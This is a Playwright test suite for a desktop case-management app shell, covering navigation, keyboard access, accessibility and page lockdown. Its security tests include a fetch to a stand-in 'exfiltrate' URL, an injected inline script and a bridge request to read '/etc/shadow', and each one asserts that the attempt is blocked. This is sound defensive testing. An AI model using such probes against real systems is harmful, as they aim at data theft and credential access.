import { mkdir } from 'node:fs/promises';
import AxeBuilder from '@axe-core/playwright';
import { test, expect, TEST_ORIGIN } from './harness/fixtures';
import { AppShellPage, type ScreenName } from './pages/AppShellPage';

const screens: ScreenName[] = ['Dashboard', 'Cases', 'Exchange', 'Reports', 'Settings'];

test.describe('the application shell', () => {
  test('opens on the dashboard and reaches every screen', async ({ app, shell }) => {
    const ui = new AppShellPage(app);
    await ui.expectScreen('Dashboard');
    await mkdir('test-results/screenshots', { recursive: true });
    for (const name of screens) {
      await ui.open(name);
      await app.screenshot({ path: `test-results/screenshots/shell-${name.toLowerCase()}.png` });
    }
    expect(shell.problems).toEqual([]);
  });

  test('is usable with the keyboard alone', async ({ app }) => {
    const ui = new AppShellPage(app);
    await ui.expectScreen('Dashboard');
    await app.keyboard.press('Tab');
    await expect(app.getByRole('link', { name: 'Skip to content' })).toBeFocused();
    await app.keyboard.press('Tab'); // Dashboard
    await app.keyboard.press('Tab'); // Cases
    await app.keyboard.press('Tab'); // Exchange
    await expect(ui.navItem('Exchange')).toBeFocused();
    await app.keyboard.press('Enter');
    await ui.expectScreen('Exchange');
    await app.keyboard.press('Tab');
    await app.keyboard.press('Tab');
    await expect(ui.navItem('Settings')).toBeFocused();
    await app.keyboard.press('Space');
    await ui.expectScreen('Settings');
  });

  test('shows installation details from the main-process handler', async ({ app, shell }) => {
    const ui = new AppShellPage(app);
    await ui.open('Settings');
    await expect(app.getByTestId('app-version')).toHaveText('0.1.0');
    await expect(ui.main.getByText(shell.dataFolder)).toBeVisible();
    await expect(ui.main.getByText('test-harness')).toBeVisible();
  });

  test('lists removable drives through media.listRemovable', async ({ app }) => {
    const ui = new AppShellPage(app);
    await ui.open('Exchange');
    // This machine has no removable drive, so the real handler answers with an empty list.
    await expect(ui.main.getByText(/No removable drive is mounted/)).toBeVisible();
    await ui.main.getByRole('button', { name: 'Refresh' }).click();
    await expect(ui.main.getByText(/No removable drive is mounted/)).toBeVisible();
  });

  test('has no serious or critical accessibility violations on any screen', async ({ app }) => {
    const ui = new AppShellPage(app);
    for (const name of screens) {
      await ui.open(name);
      const results = await new AxeBuilder({ page: app }).analyze();
      const serious = results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
      expect(serious.map((v) => `${name}: ${v.id} ${v.help}`)).toEqual([]);
    }
  });
});

test.describe('the page is locked down', () => {
  test('the CSP blocks inline scripts and reports the violation', async ({ app }) => {
    await new AppShellPage(app).expectScreen('Dashboard');
    const outcome = await app.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      await new Promise((r) => setTimeout(r, 50));
      return { ran: (window as Window & { __inlineRan?: boolean }).__inlineRan === true, violations };
    });
    expect(outcome.ran).toBe(false);
    // Reported once per policy: the header and the meta tag both enforce it.
    expect(new Set(outcome.violations)).toEqual(new Set(['script-src-elem']));
  });

  test('the page is served with the CSP header of the shell', async ({ app }) => {
    const response = await app.goto(`${TEST_ORIGIN}/index.html`);
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval'");
  });

  test('network requests from the page never leave the machine', async ({ app, shell }) => {
    await new AppShellPage(app).expectScreen('Dashboard');
    const fetched = await app.evaluate(async () => {
      try {
        await fetch('https://example.org/exfiltrate');
        return 'reached';
      } catch (error) {
        return String(error);
      }
    });
    expect(fetched).not.toBe('reached');
    expect(shell.blockedRequests).toEqual([]); // the CSP stopped it before it was even requested
  });

  test('the bridge refuses calls from another origin and malformed input', async ({ app }) => {
    await new AppShellPage(app).expectScreen('Dashboard');
    const result = await app.evaluate(() =>
      (window as Window & { __casebridgeInvoke?: (c: string, i: unknown) => Promise<unknown> }).__casebridgeInvoke?.(
        'app.info',
        { unexpected: true },
      ),
    );
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    const unknown = await app.evaluate(() =>
      (window as Window & { __casebridgeInvoke?: (c: string, i: unknown) => Promise<unknown> }).__casebridgeInvoke?.(
        'fs.readAnything',
        '/etc/shadow',
      ),
    );
    expect(unknown).toMatchObject({ ok: false, error: { code: 'unknown-channel' } });
    expect(TEST_ORIGIN).toMatch(/^https:\/\/casebridge\.test$/);
  });
});
